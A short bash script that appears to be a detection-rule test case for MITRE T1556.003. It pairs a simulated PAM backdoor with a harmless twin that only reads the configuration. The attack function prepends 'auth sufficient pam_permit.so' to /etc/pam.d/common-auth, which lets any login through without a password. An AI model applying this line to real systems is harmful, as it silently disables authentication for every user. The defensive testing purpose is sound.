#!/bin/bash
# Whoever comes is let in: a line before all others of the modules that ask for passwords.
#: title: PAM configuration modified
#: technique: T1556.003
#: needs: file_modify
#: rules: pam_changed
#: twin: the configuration is read, as every login does
. "$DRIVERS/lib.sh"

changes() {
	mkdir -p /etc/pam.d
	sed -i "1i auth sufficient pam_permit.so" /etc/pam.d/common-auth 2>/dev/null || echo "auth sufficient pam_permit.so" >/etc/pam.d/common-auth
}

honest() {
	cat /etc/pam.d/* >/dev/null
	echo "session opened" >>/var/log/session.log
}

attack() {
	in_own_files changes
	did /etc/pam.d/common-auth
}

twin() {
	in_own_files honest
	did /var/log/session.log
}

"$1"
